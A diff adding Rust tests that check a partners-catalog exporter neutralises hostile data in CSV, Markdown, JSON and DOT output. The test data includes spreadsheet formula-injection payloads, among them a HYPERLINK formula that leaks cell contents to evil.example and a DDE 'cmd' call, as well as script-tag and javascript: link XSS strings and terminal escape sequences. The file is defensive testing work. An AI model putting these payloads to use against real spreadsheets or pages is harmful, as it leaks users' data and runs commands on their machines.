@@ -1,0 +1,115 @@
+//! Hostile data in exports: CSV cells never start a formula, Markdown never turns data into
+//! markup, JSON keeps every character as escapes, DOT carries line breaks and replaces controls.
+
+use std::path::Path;
+
+use partners::catalog::{Catalog, Source};
+use partners::export::ExportFormat;
+use partners::store::{Change, Store};
+use serde_json::Value;
+use tempfile::TempDir;
+
+use super::{bundled, check_graph, csv_records, everyone, has_edge, parse_dot, run};
+
+/// A store whose notes are the `notes`, on the first partners of the catalog, in order.
+fn store_with_notes(home: &TempDir, catalog: &Catalog, notes: &[&str]) -> (Store, Vec<usize>) {
+    let mut store = Store::open(home.path()).expect("open the store");
+    for (n, note) in notes.iter().enumerate() {
+        let id = catalog.partners()[n].id.clone();
+        store.apply(Change::Note { id, text: Some((*note).into()) }).expect("note");
+    }
+    (store, (0..notes.len()).collect())
+}
+
+/// A catalog of `source` as written: no validation, as a hand-made or future file could be.
+fn unchecked_catalog(source: &str) -> Catalog {
+    let dataset = partners::dataset::parse_syntax(source, Path::new("hostile.ron"))
+        .unwrap_or_else(|e| panic!("{e}"));
+    let n = dataset.partners.len();
+    Catalog::from_partners(dataset.partners, vec![Source::File("hostile.ron".into(), n)], vec![])
+}
+
+const FORMULAS: &[&str] = &[
+    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r\n=1+1",
+];
+
+#[test]
+fn csv_cells_never_start_a_formula() {
+    let home = TempDir::new().expect("temp dir");
+    let catalog = bundled();
+    let (store, chosen) = store_with_notes(&home, &catalog, FORMULAS);
+    let rows = csv_records(&run(&catalog, Some(&store), &chosen, ExportFormat::Csv));
+    for (row, formula) in rows.iter().zip(FORMULAS) {
+        assert_eq!(row["note"], format!("'{formula}"), "the note is kept behind a quote");
+    }
+    // Dataset fields too: a partner whose every field starts like a formula.
+    let hostile = r#"(partners: [(id: "-x", name: "=1+1", acronym: "@A", kind: Media, scope: Local,
+        description: "d", location: "+33", website: "=HYPERLINK(\"x\")", email: "-e",
+        phone: "+33 5 56 00 00 00", booth: "\t1")])"#;
+    let catalog = unchecked_catalog(hostile);
+    let rows = csv_records(&run(&catalog, None, &everyone(&catalog), ExportFormat::Csv));
+    for (column, cell) in &rows[0] {
+        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{column}: {cell:?}");
+    }
+    assert_eq!(rows[0]["phone"], "'+33 5 56 00 00 00");
+}
+
+#[test]
+fn markdown_shows_markup_in_data_as_text() {
+    let home = TempDir::new().expect("temp dir");
+    let catalog = bundled();
+    let note = "<script>alert(1)</script> [click](javascript:alert(1)) <javascript:alert(2)>\n# not a heading\n> not a quote end | cell | *bold* _it_ `code` &amp;";
+    let (store, chosen) = store_with_notes(&home, &catalog, &[note]);
+    let md = run(&catalog, Some(&store), &chosen, ExportFormat::Md);
+    let mine = md.split("## Mine").nth(1).expect("the marks section");
+    // Every significant character comes with a backslash, so none is markup.
+    for c in ['<', '>', '[', ']', '&', '*', '_', '`', '|', '#'] {
+        for (at, _) in mine.match_indices(c) {
+            let quote_marker = c == '>' && (at == 0 || mine[..at].ends_with('\n'));
+            assert!(quote_marker || mine[..at].ends_with('\\'), "raw {c:?} in {mine:?}");
+        }
+    }
+    // Each line of the note is its own quoted line.
+    let quoted: Vec<&str> = mine.lines().filter(|l| l.starts_with("> ")).collect();
+    assert_eq!(quoted.len(), 3, "{mine}");
+    assert!(quoted[1].starts_with("> \\# not a heading"), "{mine}");
+}
+
+#[test]
+fn json_keeps_every_character_of_a_note_as_escapes() {
+    let home = TempDir::new().expect("temp dir");
+    let catalog = bundled();
+    let note: String = (1u32..0x2070).filter_map(char::from_u32).collect::<String>() + "end";
+    let (store, chosen) = store_with_notes(&home, &catalog, &[&note]);
+    let text = run(&catalog, Some(&store), &chosen, ExportFormat::Json);
+    for c in text.chars() {
+        assert!(
+            c == '\n' || !(c.is_control() || partners::text::is_bidi_control(c)),
+            "raw {c:?} in the JSON"
+        );
+    }
+    for escape in ["\\u001b", "\\u007f", "\\u0085", "\\u009b", "\\u202e", "\\u2066", "\\u200e"] {
+        assert!(text.contains(escape), "{escape} missing");
+    }
+    let array: Value = serde_json::from_str(&text).expect("JSON");
+    assert_eq!(array[0]["note"], note.as_str(), "decodes to the exact note");
+}
+
+#[test]
+fn dot_carries_line_breaks_and_replaces_controls() {
+    let hostile =
+        "(partners: [(id: \"a\", name: \"A\", kind: Media, scope: Local, description: \"d\",
+        relations: [(kind: MemberOf, name: \"Two\\nlines \\u{1b}[2J\\u{202E}\")])])";
+    let catalog = unchecked_catalog(hostile);
+    let dot = run(&catalog, None, &everyone(&catalog), ExportFormat::Dot);
+    assert!(dot.contains("\"Two\\nlines \u{FFFD}[2J\u{FFFD}\""), "{dot}");
+    let graph = parse_dot(&dot);
+    check_graph(&graph);
+    assert!(has_edge(&graph, "a", "Two\nlines \u{FFFD}[2J\u{FFFD}", "Member of"));
+}
